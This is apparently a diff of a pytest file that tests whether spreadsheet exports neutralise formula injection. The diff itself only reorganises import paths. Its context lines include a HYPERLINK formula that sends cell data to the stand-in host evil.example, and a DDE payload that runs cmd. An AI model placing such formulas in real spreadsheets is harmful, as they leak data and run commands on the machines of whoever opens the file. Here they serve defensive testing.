@@ -16,9 +16,9 @@ from typing import Any
 import pytest
 from openpyxl import load_workbook
 
-from models.bnba import bnba_export
-from models.registry import PersonInput, register_person
-from models.tally_export import export_month
+from models.tallies.bnba import bnba_export
+from models.people.registry import PersonInput, register_person
+from models.tallies.export import export_month
 from reports.spreadsheet_cells import TRIGGERS
 from reports.tally_csv import render_bnba_csv, render_tally_csv
 from reports.tally_xlsx import render_bnba_xlsx, render_tally_xlsx
@@ -136,7 +136,7 @@ def test_every_text_of_the_monthly_report_is_neutralised_in_xlsx_and_csv(staff, 
 
 @sqlite_only
 def test_a_registered_client_named_hyperlink_is_text_in_the_real_bnba(staff):
-    from models import intake
+    from models.intake import intake
     admin = staff["admin"]
     name = '=HYPERLINK("http://evil.example/?"&C6,"Klik")'
     address = "=cmd|' /C calc'!A0"
